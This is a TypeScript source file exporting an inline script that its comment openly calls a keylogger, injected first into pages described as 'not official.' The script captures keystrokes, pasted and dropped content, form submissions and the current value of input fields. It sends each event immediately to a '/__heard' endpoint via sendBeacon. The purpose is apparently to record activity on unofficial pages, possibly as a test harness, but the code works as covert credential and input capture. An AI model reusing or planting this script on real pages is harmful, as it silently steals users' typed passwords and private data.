import { Html } from '../html';

/**
 * The first inline script of every page that is not official: a keylogger that hears all it can, from before the body
 * is there. Each event leaves at once, because the page may be replaced at any moment.
 */
export const recorder = new Html(`<script>
(() => {
  const tell = (entry) => navigator.sendBeacon('/__heard', JSON.stringify(entry));
  window.__heard = [];
  for (const type of ['keydown', 'keypress', 'beforeinput', 'input', 'paste', 'drop', 'submit'])
    window.addEventListener(type, (event) => {
      const entry = { type, key: event.key ?? event.data ?? undefined, value: event.target && event.target.value };
      window.__heard.push(entry);
      tell(entry);
    }, true);
  tell({ type: 'loaded' });
})();
</script>`);
